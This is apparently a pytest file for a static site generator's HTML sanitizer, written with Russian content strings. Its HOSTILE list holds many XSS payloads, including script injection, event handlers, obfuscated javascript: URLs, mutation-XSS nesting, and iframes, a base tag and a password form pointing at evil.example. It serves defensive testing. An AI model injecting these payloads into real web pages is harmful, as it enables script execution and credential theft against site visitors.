"""Raw HTML in entries' bodies: a corpus of hostile bodies through nh3, check warnings with
file and line, and a real build whose page runs none of it in Chromium."""

from __future__ import annotations

from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from generator.check.sanitize import clean
from tests.conftest import innopub, project, serve, soup
from tests.fixtures.content import ORG

HOSTILE = [
    "<script>window.__pwned = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="window.__pwned = 1">',
    '<p onclick="window.__pwned = 1" ONMOUSEOVER="x()">текст</p>',
    '<a href="javascript:window.__pwned = 1">ссылка</a>',
    '<a href=" JaVaScRiPt:window.__pwned = 1">ссылка</a>',
    '<a href="&#106;avascript:alert(1)">ссылка</a>',
    '<a href="java\tscript:alert(1)">ссылка</a>',
    '<a href="vbscript:msgbox(1)">ссылка</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ссылка</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body { display: none }</style>",
    '<div style="background: url(javascript:alert(1))">x</div>',
    '<form action="https://evil.example/"><input name="password"><button>Войти</button></form>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<object data="x.swf"></object><embed src="x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<a href="https://ok.example/" target="_blank" onfocus="alert(1)" autofocus>ссылка</a>',
]
FORBIDDEN_TAGS = {"script", "style", "iframe", "form", "input", "button", "object", "embed", "meta", "base", "link", "svg", "math", "noscript"}


def assert_harmless(html: str) -> None:
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        assert element.name not in FORBIDDEN_TAGS, html
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            assert not name.startswith("on") and name not in {"style", "srcdoc", "autofocus", "target"}, html
            squeezed = "".join(text.split()).lower()
            assert not squeezed.startswith(("javascript:", "vbscript:", "data:")), html


@pytest.mark.parametrize("body", HOSTILE)
def test_hostile_body_is_cleaned(body: str) -> None:
    assert_harmless(clean(body))
    assert_harmless(clean(body, ["rutube.ru"]))


def test_markdown_output_is_kept() -> None:
    html = (
        '<h2 id="_1">Итоги<a class="headerlink" href="#_1" title="Постоянная ссылка">¶</a></h2>'
        '<div class="admonition note"><p class="admonition-title">Важно</p><p>Текст <a href="../x/">ссылка</a></p></div>'
        '<table><thead><tr><th style="text-align: center;">Год</th></tr></thead><tbody><tr><td>2024</td></tr></tbody></table>'
        '<p><img alt="Фото" src="../files/a.jpg" title="Фото"><code>&lt;script&gt;</code></p>'
    )
    assert clean(html) == html.replace("text-align: center;", "text-align:center")  # only the style is normalised


def test_iframe_only_from_a_configured_host() -> None:
    video = '<iframe src="https://rutube.ru/play/embed/1" width="720" height="405" allowfullscreen=""></iframe>'
    assert clean(video) == ""
    assert clean(video, ["rutube.ru"]) == video
    assert clean(video.replace("rutube.ru", "rutube.ru.evil.example"), ["rutube.ru"]) == ""
    assert clean(video.replace("https:", "http:"), ["rutube.ru"]) == ""


BODY = """Школа в центре города.

<script>window.__pwned = 1</script>
<p onclick="window.__pwned = 2">Нажмите</p>
[ссылка](javascript:window.__pwned=3)
<iframe src="https://evil.example/x"></iframe>
<iframe src="https://rutube.ru/play/embed/1" title="Видео"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="password"></form>
<img src="../x.png">

Пример кода: `<script>` и

```html
<script>это пример, а не скрипт</script>
```
"""


def test_check_warns_with_file_and_line_and_the_page_runs_nothing(tmp_path: Path, browser) -> None:
    entry = ORG.replace("Школа в центре города.\n", BODY)
    root = project(tmp_path, {"organizations/shkola-5.md": entry}, extra_config="      iframe_hosts: [rutube.ru]\n")
    result = innopub("check", cwd=root)
    assert result.returncode == 0, result.stdout + result.stderr
    out = result.stdout + result.stderr
    path = "content/organizations/shkola-5.md"
    for line, words in [
        (9, "удалён скрипт <script>"),
        (10, "обработчик события «onclick»"),
        (11, "небезопасный адрес ссылки «javascript:"),
        (12, "iframe_hosts"),
        (14, "удалён стиль <style>"),
        (15, "удалена форма <form>"),
        (16, "нет описания alt"),
    ]:
        assert f"{path}:{line}: предупреждение: " in out and words in out, (line, words, out)
    assert f"{path}:13:" not in out and f"{path}:19:" not in out and f"{path}:21:" not in out, out  # allowed iframe; code

    assert innopub("build", cwd=root).returncode == 0
    page = root / "site" / "organizations" / "shkola-5" / "index.html"
    article = soup(page).select_one("article")
    assert not article.find_all(["script", "style", "form"])
    assert article.select_one('iframe[src="https://rutube.ru/play/embed/1"]') is not None
    assert "evil.example" not in str(article) and "onclick" not in str(article)
    with serve(root / "site") as url:
        context = browser.new_context()
        browser_page = context.new_page()
        dialogs: list[str] = []
        browser_page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        browser_page.route("https://rutube.ru/**", lambda route: route.abort())  # never leave 127.0.0.1
        browser_page.goto(url + "organizations/shkola-5/")
        browser_page.get_by_text("Нажмите").click()
        assert browser_page.evaluate("window.__pwned") is None
        assert not dialogs
        context.close()


def test_control_characters_leave_bodies_for_the_site_and_the_editions() -> None:
    """An ESC pasted into a paragraph with a refused link stopped the PDF edition (lxml refuses it in XML text)."""
    from generator.editions.printbody import safe_body

    body = '<p><a href="javascript:x">a</a> \x1b[31mкрасный\x07 текст\x00</p>'
    assert clean(body) == "<p><a>a</a> [31mкрасный текст</p>"
    assert safe_body(body, "reports/x.md", lambda source, href: None, lambda source, src: None) == "<p>a [31mкрасный текст</p>"
